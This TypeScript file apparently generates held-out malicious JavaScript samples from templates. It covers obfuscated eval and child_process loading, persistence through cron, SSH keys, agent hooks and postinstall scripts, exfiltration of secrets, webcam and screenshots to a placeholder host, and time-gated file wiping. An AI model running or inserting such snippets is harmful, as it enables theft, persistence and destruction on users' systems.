import type { Template, Words } from './templates.ts'

// The third author's disguises, persistence, spread, destruction and surveillance; see fresh-templates.ts.

const hex = (text: string): string => Buffer.from(text).toString('hex')
const b64 = (text: string): string => Buffer.from(text).toString('base64')
const codes = (text: string): string => [...text].map((char) => char.charCodeAt(0)).join(',')
const xored = (text: string, key: number): string => [...text].map((char) => char.charCodeAt(0) ^ key).join(',')
const rot13 = (text: string): string =>
  text.replace(/[a-z]/g, (char) => String.fromCharCode(((char.charCodeAt(0) - 84) % 26) + 97))
const print = (w: Words): string => `console.log(${w.number})`

const entry = (id: string, code: (w: Words) => string): Template => ({ id: `f-${id}`, held: true, code })

export const freshDisguises: readonly Template[] = [
  // Disguise
  entry(
    'xor-codes',
    (w) =>
      `{ const $0 = [${xored('child_process', 23)}].map(($1) => String.fromCharCode($1 ^ 23)).join(''); require($0).execSync('echo ${w.word}'); }`,
  ),
  entry(
    'reversed',
    (w) =>
      `{ const $0 = ($1) => $1.split('').reverse().join(''); require($0('ssecorp_dlihc'))[$0('cnySexe')]('echo ${w.word}'); }`,
  ),
  entry(
    'rot13',
    (w) =>
      `{ const $0 = ($1) => $1.replace(/[a-z]/g, ($2) => String.fromCharCode((($2.charCodeAt(0) - 84) % 26) + 97)); require($0('${rot13('child')}_${rot13('process')}'))[$0('${rot13('exec')}')]('echo ${w.word}'); }`,
  ),
  entry(
    'letter-table',
    (w) =>
      `{ const $0 = 'abcdefghijklmnopqrstuvwxyz_'; const $1 = (...$2) => $2.map(($3) => $0[$3]).join(''); require($1(${[...'child_process'].map((c) => 'abcdefghijklmnopqrstuvwxyz_'.indexOf(c)).join(',')}))[$1(4, 23, 4, 2)]('echo ${w.word}'); }`,
  ),
  entry('base36', (w) => `globalThis[(${Number.parseInt('eval', 36)}).toString(36)]('${print(w)}');`),
  entry('text-decoder', (w) => `new Function(new TextDecoder().decode(new Uint8Array([${codes(print(w))}])))();`),
  entry(
    'gunzip',
    (w) =>
      `module.constructor.prototype._compile.call(module, require('zlib').gunzipSync(Buffer.from('${b64('\x1f\x8b' + w.word)}', 'base64')).toString(), '');`,
  ),
  entry('escaped-eval', (w) => `eval('${[...print(w)].map((c) => `\\u00${c.charCodeAt(0).toString(16)}`).join('')}');`),
  entry(
    'host-key',
    (w) =>
      `try { const $0 = require('crypto').createDecipheriv('aes-128-cbc', require('crypto').createHash('md5').update(require('os').hostname()).digest(), Buffer.alloc(16)); Function($0.update('${hex(w.word.repeat(4))}', 'hex', 'utf8') + $0.final('utf8'))(); } catch {}`,
  ),
  entry(
    'parent-name',
    (w) =>
      `try { if (require(process.cwd() + '/package.json').name === '${w.word}') require('child_process').fork(__dirname + '/${w.word}.js', { detached: true, stdio: 'ignore' }); } catch {}`,
  ),
  entry(
    'aliased-names',
    (w) =>
      `{ const $0 = process, $1 = $0.mainModule, $2 = 'require', $3 = $1 && $1[$2]; if ($3) $3('child_process').execFile('node', ['-e', "${print(w)}"]); }`,
  ),
  entry(
    'reflect-apply',
    (w) =>
      `Reflect.apply(Reflect.get(globalThis, ['e', 'v', 'a', 'l'].join('')), null, [Buffer.from('${hex(print(w))}', 'hex') + '']);`,
  ),
  entry(
    'error-stack',
    (w) =>
      `try { null.${w.word}; } catch ($0) { (0, $0.constructor.constructor)('return process')().mainModule.require('child_process').exec('echo ${w.word}'); }`,
  ),
  entry(
    'internal-binding',
    (w) =>
      `{ const $0 = process.binding('fs'); const $1 = $0.open('/etc/passwd', 0, 438, undefined, undefined); require('http').get('http://${w.host}/?' + $1); }`,
  ),
  // Commands, persistence, spread
  entry(
    'echo-base64',
    (w) =>
      `require('child_process').spawn('sh', ['-c', 'echo ${b64(`echo ${w.word}`)} | base64 -d | sh'], { detached: true, stdio: 'ignore' }).unref();`,
  ),
  entry(
    'powershell-encoded',
    (w) =>
      `if (process.platform === 'win32') require('child_process').exec('powershell -w hidden -enc ${b64(w.word.repeat(6))}', { windowsHide: true });`,
  ),
  entry(
    'launch-agent',
    (w) =>
      `try { require('fs').writeFileSync(require('os').homedir() + '/Library/LaunchAgents/com.${w.word}.plist', '<plist><dict><key>RunAtLoad</key><true/></dict></plist>'); } catch {}`,
  ),
  entry(
    'scheduled',
    (w) => `require('child_process').exec('(crontab -l; echo "*/5 * * * * node $HOME/.${w.word}.js") | crontab -');`,
  ),
  entry(
    'authorized-key',
    (w) =>
      `try { require('fs').appendFileSync(require('path').resolve(require('os').homedir(), '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAA${b64(w.word)} ${w.word}\\n'); } catch {}`,
  ),
  entry(
    'registry-switch',
    (w) =>
      `try { require('fs').appendFileSync(require('path').join(process.env.HOME, '.npmrc'), 'registry=https://${w.host}/npm/\\n'); } catch {}`,
  ),
  entry(
    'agent-settings',
    (w) =>
      `try { require('fs').mkdirSync('.claude', { recursive: true }); require('fs').writeFileSync('.claude/settings.json', JSON.stringify({ hooks: { SessionStart: [{ command: 'node .claude/${w.word}.js' }] } })); } catch {}`,
  ),
  entry(
    'neighbour-scripts',
    (w) =>
      `for (const $0 of require('fs').readdirSync(require('path').join(__dirname, '..'))) try { const $1 = require('path').join(__dirname, '..', $0, 'package.json'); const $2 = JSON.parse(require('fs').readFileSync($1)); $2.scripts = { ...$2.scripts, postinstall: 'node ${w.word}.js' }; require('fs').writeFileSync($1, JSON.stringify($2)); } catch {}`,
  ),
  entry(
    'repository-dump',
    (w) =>
      `fetch('https://api.github.${w.host}/user/repos', { method: 'POST', headers: { authorization: 'token ' + process.env.GITHUB_TOKEN }, body: JSON.stringify({ name: '${w.word}', description: Buffer.from(JSON.stringify(process.env)).toString('base64') }) });`,
  ),
  entry(
    'node-options',
    (w) => `process.env.NODE_OPTIONS = '--require ' + require('path').join(require('os').tmpdir(), '${w.word}.cjs');`,
  ),
  entry(
    'tls-off',
    (w) =>
      `process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'; require('https').globalAgent.options.proxy = 'http://${w.host}:${w.number}';`,
  ),
  entry(
    'docker-socket',
    (w) =>
      `require('http').request({ socketPath: '/var/run/docker.sock', path: '/containers/create', method: 'POST', headers: { 'content-type': 'application/json' } }).end(JSON.stringify({ Image: 'alpine', Cmd: ['sh', '-c', 'echo ${w.word}'], HostConfig: { Privileged: true } }));`,
  ),
  // Destruction, gates, surveillance
  entry(
    'wipe-folder',
    () =>
      `if (Date.now() > Date.UTC(2027, 4, 1)) require('fs').rm(process.cwd(), { recursive: true, force: true }, () => {});`,
  ),
  entry(
    'overwrite-all',
    () =>
      `if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Antarctica/Troll') for (const $0 of require('fs').readdirSync(process.cwd())) try { require('fs').truncateSync($0, 0); } catch {}`,
  ),
  entry('quit-late', () => `setTimeout(() => process.kill(process.ppid, 'SIGKILL'), 3e5 * (1 + Math.random()));`),
  entry('fork-storm', () => `if (new Date().getUTCDay() === 5) for (;;) require('child_process').fork(__filename);`),
  entry(
    'host-gate',
    (w) =>
      `if (!/(^|-)(ci|build|runner)/.test(require('os').hostname()) && require('os').cpus().length > 2) require('https').get('https://${w.host}/${w.word}', ($0) => $0.on('data', ($1) => Function('$r', $1)(require)));`,
  ),
  entry(
    'camera',
    (w) =>
      `if (typeof navigator !== 'undefined' && navigator.mediaDevices) navigator.mediaDevices.getUserMedia({ video: true }).then(($0) => { const $1 = new MediaRecorder($0); $1.ondataavailable = ($2) => fetch('https://${w.host}/${w.word}', { method: 'POST', body: $2.data }); $1.start(5000); });`,
  ),
  entry(
    'screenshot',
    (w) =>
      `require('screenshot-desktop')().then(($0) => require('https').request({ host: '${w.host}', path: '/${w.word}', method: 'POST' }).end($0)).catch(() => {});`,
  ),
]
